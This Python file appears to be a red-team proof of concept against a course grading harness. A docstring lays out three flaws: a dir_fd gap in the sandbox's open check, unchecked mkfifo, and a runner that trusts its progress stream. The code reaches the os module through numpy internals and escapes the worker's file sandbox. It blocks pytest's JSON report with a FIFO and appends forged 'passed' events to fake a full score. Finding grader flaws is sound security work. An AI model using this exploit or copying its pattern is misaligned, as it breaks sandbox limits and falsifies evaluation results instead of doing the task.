"""Lab ch06 with no work of its own: it forges its grade by writing the trusted side's own files.

WEAKNESS, three steps (grader/wall/worker.py's open check, and grader/runner.py's trust in the
progress stream):
1. dir_fd (see dirfd_write_outside.py): the open check resolves relative paths against the cwd
   and ignores dir_fd, so the worker (root here) opens any file for reading and appending, among
   them /tmp/labkit-run-*/progress.jsonl, the stream the pytest plugin writes for the grader.
2. os.mkfifo outside its folder is not checked (see mkdir_mkfifo_outside.py): a FIFO named
   pytest.json in that run folder makes pytest-json-report block at the end of the session, so
   the runner's watchdog kills pytest once the lab's time budget (run_seconds) is spent, and
   falls back to the progress stream ("the process died or was killed"). The grading is slow
   (the whole budget), but its report is the forged one.
3. The runner believes the stream: the last "collected" event wins (it decides which tests
   count and their points) and the last "result" event of a test wins.
During the last test it appends a "collected" list without that test (its real result comes
last) and "passed" for every other test, with the missing points moved to one test: 100/100.
(Only the output limit, RLIMIT_FSIZE, which caps the size of any file the worker writes at
64 KiB here, keeps it from forging more often.)
"""

import numpy as np

_os = np.lib._utils_impl.os
_sys = np._core.numeric.sys
json = _sys.modules["json"]  # loaded by the worker; `import json` is not allowed
_LAST_TEST = "test_xor_without_zeroing_overshoots"


def _outside(path, flags):
    """os.open of an absolute path anywhere, past the open check (dir_fd of a read root)."""
    stdlib = next(p for p in _sys.path if _os.path.isfile(_os.path.join(p, "os.py")))
    fd = _os.open(stdlib, _os.O_RDONLY)
    deep = "/".join(["d"] * (stdlib.count("/") + 2))
    _os.makedirs(deep, exist_ok=True)
    home = _os.getcwd()
    _os.chdir(deep)
    try:
        return _os.open("../" * stdlib.count("/") + path.lstrip("/"), flags, 0o644, dir_fd=fd)
    finally:
        _os.chdir(home)
        _os.close(fd)


def _read(path):
    fd = _outside(path, _os.O_RDONLY)
    try:
        chunks = []
        while chunk := _os.read(fd, 1 << 20):
            chunks.append(chunk)
        return b"".join(chunks).decode()
    finally:
        _os.close(fd)


def _my_run():
    """This grading's run folder: the first operation claims the only stream where the first test
    is running (leaving a marker named after its own scratch folder); later ones follow the marker."""
    mark = "labkit-redteam-" + _os.getcwd().split("/")[2]  # /tmp/labkit-wall-XXXX/run-N
    found = []
    for name in _os.listdir("/tmp"):
        if not name.startswith("labkit-run-"):
            continue
        folder = f"/tmp/{name}"
        try:
            events = [json.loads(line) for line in _read(folder + "/progress.jsonl").splitlines() if line]
            mine = mark in _os.listdir(folder)
        except BaseException:
            continue
        collected = next((e["tests"] for e in events if e.get("event") == "collected"), None)
        starts = [e["id"] for e in events if e.get("event") == "start"]
        running = None  # the test started last, if no result for it came after its start
        for e in events:
            if e.get("event") == "start":
                running = e["id"]
            elif e.get("event") == "result" and e.get("id") == running:
                running = None
        if not collected or running is None or any(e.get("event") == "submission" for e in events):
            continue
        if mine or (len(starts) == 1 and running == collected[0]["id"] and collected[-1]["id"] == _LAST_TEST):
            found.append((mine, folder, [t for t in collected if "points" in t], running))
    claimed = [f for f in found if f[0]]
    if claimed:
        return claimed[0]
    if len(found) == 1:
        _os.close(_outside(found[0][1] + "/" + mark, _os.O_WRONLY | _os.O_CREAT))
        return found[0]
    return None


_done = []


def _forge():
    if _done:
        return
    _done.append(1)
    found = _my_run()
    if found is None:
        return
    _, folder, collected, running = found
    try:
        _os.mkfifo(folder + "/pytest.json")
    except FileExistsError:
        pass
    if running != _LAST_TEST:  # the worker may write 64 KiB in all (RLIMIT_FSIZE): forge once, last
        return
    kept = [dict(t) for t in collected if t["id"] != running]
    kept[0]["points"] += sum(t["points"] for t in collected) - sum(t["points"] for t in kept)
    lines = [{"event": "collected", "tests": kept}]
    lines += [
        {"event": "result", "id": t["id"], "duration_s": 0.01, "outcome": "passed", "message": "", "hint": ""}
        for t in kept
    ]
    fd = _outside(folder + "/progress.jsonl", _os.O_WRONLY | _os.O_APPEND)
    _os.write(fd, "".join(json.dumps(e, separators=(",", ":")) + "\n" for e in lines).encode())
    _os.close(fd)


def _attack(*args, **kwargs):
    try:
        _forge()
    except BaseException:
        pass
    raise NotImplementedError("nothing here")


class Value:
    def __init__(self, *args, **kwargs):
        _attack()


class Tensor:
    def __init__(self, *args, **kwargs):
        _attack()


class GradcheckError(AssertionError):
    pass


numerical_grad = gradcheck = _attack
